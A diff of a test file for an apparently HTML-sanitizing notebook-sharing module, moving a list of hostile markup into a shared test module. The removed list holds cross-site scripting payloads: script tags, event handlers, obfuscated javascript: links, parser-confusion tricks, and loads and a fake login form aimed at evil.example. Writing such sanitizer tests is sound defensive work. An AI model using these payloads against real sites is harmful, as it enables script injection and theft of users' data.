@@ -14,38 +14,9 @@ from je_kernel.sharing.markdown_text import to_html
 from je_kernel.sharing.protocol import Ids
 from je_kernel.sharing.safe_html import safe_html
 from je_kernel.sharing.viewer import SharedNotebook
+from tests.hostile_markup import HOSTILE
 
 PNG = base64.b64encode(b"\x89PNG\r\n\x1a\nxyz").decode()
-
-HOSTILE = [
-    "<script>steal()</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=steal()>",
-    "<img src='https://evil.example/pixel.png'>",
-    "<svg onload=steal()><script>steal()</script></svg>",
-    "<svg/onload=steal()>",
-    "<a href='javascript:steal()'>x</a>",
-    "<a href='java\nscript:steal()'>x</a>",
-    "<a href=' &#106;avascript:steal()'>x</a>",
-    "<a href='data:text/html,<script>steal()</script>'>x</a>",
-    "<iframe srcdoc='<script>steal()</script>'></iframe>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<div style='background:url(https://evil.example)' onclick=steal()>x</div>",
-    "<form action=https://evil.example><input name=q><button>Log in</button></form>",
-    "<object data=x.swf></object><embed src=x>",
-    "<math><mtext><table><mglyph><style><!--</style>"
-    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
-    "<textarea></div><script>steal()</script>",
-    "<!--<img src='--><img src=x onerror=steal()//'>",
-    "<![CDATA[<script>steal()</script>]]>",
-    "<p/onclick=steal()>x",
-    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<table background=https://evil.example><td colspan=9999999 onclick=steal()>x",
-    "<link rel=stylesheet href=//evil.example>",
-    "</div></section></article><script>steal()</script>",
-    "<b" + " a" * 5000,
-]
 
 
 class Inspector(HTMLParser):
